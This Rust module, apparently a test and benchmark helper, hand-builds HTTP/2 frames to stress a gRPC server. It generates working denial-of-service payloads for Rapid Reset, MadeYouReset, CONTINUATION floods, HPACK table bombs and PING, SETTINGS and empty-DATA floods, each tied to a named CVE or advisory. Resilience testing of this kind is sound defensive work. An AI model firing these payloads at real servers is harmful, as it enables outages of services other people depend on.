//! HTTP/2 frames by hand, because no library lets anybody be this rude. The bench `hostile` uses the same ones.

/// What an HTTP/2 client begins with: the preface and an empty SETTINGS frame.
pub fn hello() -> Vec<u8> {
    [
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".as_slice(),
        &frame(SETTINGS, 0, 0, &[]),
    ]
    .concat()
}

pub const DATA: u8 = 0;
pub const HEADERS: u8 = 1;
pub const RST_STREAM: u8 = 3;
pub const SETTINGS: u8 = 4;
pub const PING: u8 = 6;
pub const WINDOW_UPDATE: u8 = 8;
pub const CONTINUATION: u8 = 9;

/// Of HEADERS and DATA: nothing more comes. Of SETTINGS and PING: an answer.
pub const END_STREAM: u8 = 1;
/// Of HEADERS and CONTINUATION: the head is whole.
pub const END_HEADERS: u8 = 4;

/// One frame (RFC 9113 section 4.1).
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a frame").to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// A header that is put into no table (RFC 7541 section 6.2.2).
pub fn header(name: &str, value: &str) -> Vec<u8> {
    let mut bytes = vec![0];
    for text in [name, value] {
        bytes.extend(length(text.len()));
        bytes.extend_from_slice(text.as_bytes());
    }
    bytes
}

/// A length of text without Huffman's code: an integer of 7 bits and more (RFC 7541 section 5.1).
pub fn length(length: usize) -> Vec<u8> {
    if length < 127 {
        return vec![length as u8];
    }
    let (mut bytes, mut rest) = (vec![127], length - 127);
    while rest >= 128 {
        bytes.push((rest % 128) as u8 | 128);
        rest /= 128;
    }
    bytes.push(rest as u8);
    bytes
}

/// The head of GET for a path.
pub fn get(path: &str) -> Vec<u8> {
    [vec![0x82, 0x86], header(":path", path), header(":authority", "a")].concat()
}

/// The head of a gRPC call.
pub fn grpc(method: &str) -> Vec<u8> {
    [
        vec![0x83, 0x86],
        header(":path", &format!("/lf.a2a.v1.A2AService/{method}")),
        header(":authority", "a"),
        header("content-type", "application/grpc"),
        header("te", "trailers"),
    ]
    .concat()
}

/// The numbers of a client's streams: 1, 3, 5 and so on.
pub fn streams(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|n| 2 * n + 1)
}

/// Requests that are taken back at once (CVE-2023-44487).
pub fn rapid_reset(count: u32) -> Vec<u8> {
    let pair = |stream| {
        [
            frame(HEADERS, END_HEADERS, stream, &grpc("GetTask")),
            frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
        ]
        .concat()
    };
    streams(count).flat_map(pair).collect()
}

/// Requests behind which comes what makes the server itself reset them (CVE-2025-8671).
pub fn made_you_reset(count: u32) -> Vec<u8> {
    let pair = |stream| {
        [
            frame(HEADERS, END_HEADERS, stream, &grpc("GetTask")),
            frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes()),
        ]
        .concat()
    };
    streams(count).flat_map(pair).collect()
}

/// A head that never ends (CVE-2024-27316).
pub fn continuations(count: usize) -> Vec<u8> {
    let mut bytes = frame(HEADERS, 0, 1, &get("/healthz"));
    let more = frame(CONTINUATION, 0, 1, &header("x-more", &"x".repeat(1_000)));
    bytes.extend(more.repeat(count));
    bytes
}

pub fn pings(count: usize) -> Vec<u8> {
    frame(PING, 0, 0, b"12345678").repeat(count)
}

pub fn settings(count: usize) -> Vec<u8> {
    // The size of the peer's table, which the encoder has to follow.
    frame(SETTINGS, 0, 0, &[0, 1, 0, 0, 16, 0]).repeat(count)
}

/// Pieces of a body that hold nothing (RUSTSEC-2026-0258).
pub fn empty_data(count: usize) -> Vec<u8> {
    let mut bytes = frame(HEADERS, END_HEADERS, 1, &grpc("GetTask"));
    bytes.extend(frame(DATA, 0, 1, &[]).repeat(count));
    bytes
}

/// A head of one long header, which goes into the table, and references to it of a byte each.
pub fn hpack_bomb(stream: u32, references: usize) -> Vec<u8> {
    let mut head = get("/healthz");
    head.push(0x40);
    head.extend(length(6));
    head.extend_from_slice(b"x-bomb");
    head.extend(length(3_900));
    head.extend_from_slice(&[b'x'; 3_900]);
    // 62 is the newest entry of the dynamic table (RFC 7541 section 2.3.3).
    head.extend(vec![0x80 | 62; references]);
    frame(HEADERS, END_HEADERS | END_STREAM, stream, &head)
}
